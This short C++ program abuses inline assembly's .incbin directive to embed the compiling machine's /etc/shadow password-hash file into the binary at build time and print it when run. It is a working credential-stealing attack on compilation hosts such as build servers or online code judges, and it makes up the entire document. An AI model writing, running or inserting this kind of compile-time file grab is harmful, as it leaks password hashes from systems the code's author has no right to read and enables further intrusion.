// Takes a file of the machine into the program when it is compiled.
asm(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n");
extern char stolen[];
#include <cstdio>
int main() { puts(stolen); }
